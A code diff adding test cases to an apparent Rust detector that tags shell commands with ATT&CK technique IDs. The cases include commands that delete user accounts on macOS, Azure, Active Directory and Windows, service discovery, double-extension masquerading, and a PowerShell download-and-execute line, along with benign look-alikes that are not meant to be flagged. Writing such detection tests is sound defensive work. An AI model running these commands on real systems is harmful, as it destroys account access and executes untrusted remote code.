@@ -98,6 +98,43 @@ fn behaviour_is_recognised_with_its_technique() {
             "T1056.001",
         ),
         (
+            "sysadminctl -deleteUser alice",
+            "account-access-removed",
+            "T1531",
+        ),
+        (
+            "dscl . -delete /Users/alice",
+            "account-access-removed",
+            "T1531",
+        ),
+        (
+            "az ad user delete --id alice@corp.example",
+            "account-access-removed",
+            "T1531",
+        ),
+        (
+            "Remove-ADUser -Identity alice -Confirm:$false",
+            "account-access-removed",
+            "T1531",
+        ),
+        ("net user alice /delete", "account-access-removed", "T1531"),
+        ("net start > %temp%\\s.txt", "process-discovery", "T1007"),
+        (
+            "systemctl --type=service --state=running",
+            "process-discovery",
+            "T1007",
+        ),
+        (
+            r"copy C:\Users\Public\a.exe %TEMP%\invoice.pdf.exe",
+            "double-extension",
+            "T1036.007",
+        ),
+        (
+            "chmod +x /tmp/report.pdf.sh",
+            "double-extension",
+            "T1036.007",
+        ),
+        (
             "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
             "download-execute-powershell",
             "T1059.001",
@@ -752,6 +789,12 @@ fn administration_that_looks_alike_is_not_named() {
             "run-key",
         ),
         ("mavinject.exe /?", "reflective-load"),
+        ("net start w32time", "process-discovery"),
+        (
+            "tar -czf backup.tar.gz report.pdf notes.txt",
+            "double-extension",
+        ),
+        ("net user alice /domain", "account-access-removed"),
     ];
     for (text, id) in cases {
         let hits = s.scan([*text]);
